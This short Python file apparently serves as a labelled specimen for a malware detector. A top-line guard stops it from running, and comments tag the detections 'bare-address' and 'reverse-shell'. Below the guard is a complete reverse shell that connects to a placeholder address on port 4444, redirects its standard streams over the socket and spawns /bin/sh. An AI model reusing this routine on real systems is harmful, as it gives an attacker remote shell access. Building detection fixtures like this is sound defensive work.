raise SystemExit("specimen: not to be run")
import os
import pty
import socket

def begin():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.1", 4444))  # match: bare-address
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")  # match: reverse-shell
